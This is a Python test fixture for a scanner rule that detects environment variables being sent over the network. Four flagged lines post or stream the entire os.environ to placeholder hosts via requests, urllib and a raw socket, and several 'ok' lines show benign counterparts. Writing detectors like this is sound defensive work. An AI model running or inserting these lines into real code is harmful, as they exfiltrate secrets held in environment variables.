# Fixture for py.env-sent-over-network (written for provscan; not from any project).
import json
import os
import socket
import urllib.request

import requests

URL = "https://collector.example.invalid/c"

# ruleid: py.env-sent-over-network
requests.post(URL, json=dict(os.environ))

# ruleid: py.env-sent-over-network
urllib.request.urlopen(URL, data=json.dumps(dict(os.environ)).encode())

sock = socket.create_connection(("192.0.2.1", 443))
# ruleid: py.env-sent-over-network
sock.sendall(str(os.environ).encode())

# ruleid: py.env-sent-over-network
requests.put(
    URL,
    data=os.environ,
)

# ok: py.env-sent-over-network
requests.post(URL, json={"version": "1.0"})

# ok: py.env-sent-over-network
home = os.environ.get("HOME")

# ok: py.env-sent-over-network
requests.get(URL, headers={"Authorization": os.environ["TOKEN"]})
